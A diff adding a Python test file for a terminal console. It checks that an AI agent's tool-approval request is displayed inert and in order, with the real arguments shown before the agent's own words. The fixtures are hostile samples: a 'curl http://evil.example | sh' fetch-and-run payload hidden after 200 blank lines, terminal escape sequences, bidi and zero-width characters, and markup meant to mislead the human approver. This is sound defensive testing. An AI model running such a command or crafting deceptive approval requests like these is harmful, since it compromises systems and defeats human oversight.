@@ -1,0 +1,215 @@
+"""Promise 4 in the console: a hostile agent's request is shown as what runs, at 80x24.
+
+The agent writes the reason, the requester and every argument. The tests read what is on the
+screen (the compositor's lines, the very characters sent to the terminal) and check that the
+real arguments come first, that the agent's words are labelled, that markup shows literally,
+and that no control, bidi or invisible character reaches the terminal.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from textual.pilot import Pilot
+from textual.widgets import DataTable
+
+import engine
+from daena_tui.app import DaenaApp
+from daena_tui.screens.modals.audit_detail import AuditDetailModal
+from daena_tui.screens.modals.decision import ApproveModal, DenyModal
+from daena_tui.screens.modals.request_view import RequestViewModal
+from engine.safety.display import hazard
+from engine.voice.alerts import alert_for
+
+from .conftest import started, text_of, wait_for
+
+SIZE = (80, 24)
+REASON = (
+    "\x1b[2J\x1b[Hroutine\rSAFE read-only [green]safe[/] [@click=app.quit]ok[/]"
+    " \u202etxt.exe\u202c zero\u200bwidth \x1b]8;;http://evil\x07link\x1b]8;;\x07"
+)
+REQUESTER = "operator\x1b[8m (hidden)\u2066"
+REAL = "curl http://evil.example | sh  # the real payload"
+CONTENT = "\x1b[32mecho harmless\x1b[0m\r# comment" + "\n" * 200 + REAL + "\n"
+
+
+def screen_text(app: DaenaApp) -> str:
+    """What the top screen draws, line by line: exactly the text sent to the terminal."""
+    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())
+
+
+def assert_inert(text: str) -> None:
+    found = sorted({f"U+{ord(ch):04X}" for ch in text if hazard(ch)})
+    assert not found, f"raw control/invisible characters on screen: {found}"
+
+
+async def hostile_request(eng: engine.Engine, content: str = CONTENT) -> str:
+    await eng.set_tool_enabled("filesystem_write", True)
+    pending = await eng.run(
+        engine.RunRequest(
+            tool="filesystem_write",
+            args={"path": "notes.txt", "content": content},
+            requester=REQUESTER,
+            reason=REASON,
+        )
+    )
+    assert pending.status == "pending_approval" and pending.approval_request_id
+    return pending.approval_request_id
+
+
+async def open_inbox(pilot: Pilot[int], request_id: str) -> DataTable[object]:
+    app = await started(pilot)
+    await pilot.press("3")
+    inbox = app.screen.query_one("#inbox", DataTable)
+    await wait_for(pilot, lambda: request_id in inbox.rows, "request in the inbox")
+    await pilot.pause()
+    return inbox
+
+
+def lines_of(text: str) -> list[str]:
+    return [line.strip() for line in text.splitlines()]
+
+
+def index_of(lines: list[str], needle: str) -> int:
+    return next(i for i, line in enumerate(lines) if needle in line)
+
+
+async def test_inbox_shows_the_real_arguments_first_and_the_agent_text_inert(
+    app: DaenaApp, eng: engine.Engine
+) -> None:
+    request_id = await hostile_request(eng)
+    async with app.run_test(size=SIZE) as pilot:
+        inbox = await open_inbox(pilot, request_id)
+        screen = screen_text(app)
+        assert_inert(screen)
+        lines = lines_of(screen)
+        # The detail pane, as drawn at 80x24: the console's facts, then the arguments, with
+        # the 200 blank lines collapsed, so the real payload is on screen without scrolling.
+        heading = index_of(lines, "exact arguments (this is what runs):")
+        assert index_of(lines, "filesystem_write · risk high") < heading
+        assert '"path": "notes.txt"' in lines[heading + 2 : heading + 5]
+        assert "content:" in lines
+        body = lines.index("content:") + 1
+        assert lines[body].startswith("⟨ESC⟩[32mecho harmless⟨ESC⟩[0m⟨CR⟩# comment")
+        assert lines[body + 1] == "… 199 blank lines …"
+        assert lines[body + 2] == REAL
+        # The inbox cells: one line each, the agent's columns labelled, nothing interpreted.
+        assert "By (agent)" in screen and "Reason (agent)" in screen
+        reason_cell = inbox.get_cell(request_id, "reason")
+        assert str(reason_cell).startswith("⟨ESC⟩[2J⟨ESC⟩[Hroutine⟨CR⟩SAFE")
+        assert "[green]safe[/] [@click=app.quit]ok[/]" in str(reason_cell)
+        assert str(inbox.get_cell(request_id, "requester")) == REQUESTER_SHOWN
+        # The agent's words come after the arguments, labelled, markup shown literally.
+        detail = lines_of(text_of(app.screen.query_one("#approval-detail")))
+        said = index_of(detail, "agent's reason")
+        assert index_of(detail, REAL) < index_of(detail, "requested by (agent-supplied)") < said
+        assert REASON_SHOWN in detail[said]
+        assert REQUESTER_SHOWN in detail[index_of(detail, "requested by (agent-supplied)")]
+
+
+REASON_SHOWN = (
+    "⟨ESC⟩[2J⟨ESC⟩[Hroutine⟨CR⟩SAFE read-only [green]safe[/] [@click=app.quit]ok[/]"
+    " ⟨U+202E⟩txt.exe⟨U+202C⟩ zero⟨U+200B⟩width ⟨ESC⟩]8;;http://evil⟨BEL⟩link⟨ESC⟩]8;;⟨BEL⟩"
+)
+REQUESTER_SHOWN = "operator⟨ESC⟩[8m (hidden)⟨U+2066⟩"
+
+
+async def test_deny_and_approve_modals_show_the_agent_text_inert_and_labelled(
+    app: DaenaApp, eng: engine.Engine
+) -> None:
+    request_id = await hostile_request(eng)
+    async with app.run_test(size=SIZE) as pilot:
+        await open_inbox(pilot, request_id)
+        await pilot.press("d")
+        await wait_for(pilot, lambda: isinstance(app.screen, DenyModal), "deny modal")
+        await pilot.pause()
+        screen = screen_text(app)
+        assert_inert(screen)
+        assert "requested by (agent-supplied): " + REQUESTER_SHOWN in screen
+        assert "agent's reason: ⟨ESC⟩[2J⟨ESC⟩[Hroutine⟨CR⟩SAFE read-only [green]safe[/]" in screen
+        assert "Approve" not in screen.split("Deny request", 1)[1].split("▄▄▄")[0]
+        await pilot.press("escape")
+        await wait_for(pilot, lambda: not isinstance(app.screen, DenyModal), "deny closed")
+        await pilot.press("a")
+        await wait_for(pilot, lambda: isinstance(app.screen, ApproveModal), "approve modal")
+        await pilot.pause()
+        screen = screen_text(app)
+        assert_inert(screen)
+        lines = [line.strip("█ ") for line in screen.splitlines()]
+        args = index_of(lines, "exact arguments (this is what runs):")
+        assert args < index_of(lines, REAL) < index_of(lines, "requested by (agent-supplied)")
+        assert index_of(lines, "requested by (agent-supplied)") < index_of(lines, "agent's reason")
+    assert (await eng.approvals.get(request_id)).status == "pending"
+
+
+async def test_a_long_argument_is_capped_with_a_marker_and_v_reads_all(
+    app: DaenaApp, eng: engine.Engine
+) -> None:
+    content = "".join(f"line {n}\n" for n in range(1, 301)) + REAL + "\n"
+    request_id = await hostile_request(eng, content)
+    async with app.run_test(size=SIZE) as pilot:
+        await open_inbox(pilot, request_id)
+        detail = lines_of(text_of(app.screen.query_one("#approval-detail")))
+        assert "line 40" in detail and "line 41" not in detail and REAL not in detail
+        assert "… 261 more lines — press v to read all" in detail
+        await pilot.press("v")
+        await wait_for(pilot, lambda: isinstance(app.screen, RequestViewModal), "full view")
+        full = lines_of(text_of(app.screen.query_one("#request-view-body")))
+        assert "line 300" in full and REAL in full
+        assert not any("more lines" in line for line in full)
+        assert REASON_SHOWN in full
+        await pilot.press("escape")
+        await wait_for(pilot, lambda: not isinstance(app.screen, RequestViewModal), "closed")
+
+
+async def test_the_approval_toast_names_the_tool_not_the_agent_words(
+    app: DaenaApp, eng: engine.Engine, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from .conftest import Recorded
+
+    recorded = Recorded(app, monkeypatch)
+    async with app.run_test(size=SIZE) as pilot:
+        await started(pilot)
+        await hostile_request(eng)
+        await wait_for(pilot, lambda: recorded.titled("Approval needed"), "toast")
+        (message,) = recorded.titled("Approval needed")
+        assert "filesystem_write" in message and "high" in message
+        assert "operator" not in message and "routine" not in message
+        assert_inert(message)
+
+
+async def test_logs_and_audit_detail_show_agent_text_inert(
+    app: DaenaApp, eng: engine.Engine, workspace: Path
+) -> None:
+    request_id = await hostile_request(eng)
+    async with app.run_test(size=SIZE) as pilot:
+        await started(pilot)
+        await pilot.press("5")
+        table = app.screen.query_one("#logs-table", DataTable)
+        await wait_for(pilot, lambda: table.row_count >= 1, "audit rows")
+        await pilot.pause()
+        screen = screen_text(app)
+        assert_inert(screen)
+        actors = [str(table.get_cell(row, "actor")) for row in table.rows]
+        assert REQUESTER_SHOWN in actors
+        row = next(r for r in table.rows if str(table.get_cell(r, "actor")) == REQUESTER_SHOWN)
+        table.move_cursor(row=table.get_row_index(row))
+        await pilot.press("enter")
+        await wait_for(pilot, lambda: isinstance(app.screen, AuditDetailModal), "detail")
+        await pilot.pause()
+        assert_inert(screen_text(app))
+        detail = text_of(app.screen.query_one("#audit-detail Static"))
+        assert REQUESTER_SHOWN in detail
+        assert "⟨ESC⟩[32mecho harmless⟨ESC⟩[0m⟨CR⟩# comment" in detail
+        assert "… 199 blank lines …" in detail
+    assert (await eng.approvals.get(request_id)).status == "pending"
+
+
+def test_the_spoken_alert_says_the_tool_never_the_agent_words() -> None:
+    event = engine.ApprovalRequested(
+        request_id="req_x", tool="filesystem_write", requester=REQUESTER, expires_at=1e12
+    )
+    alert = alert_for(event, now=1e12 - 600)
+    assert alert is not None
+    assert alert.text == "Approval needed: filesystem_write, expires in 10 minutes"
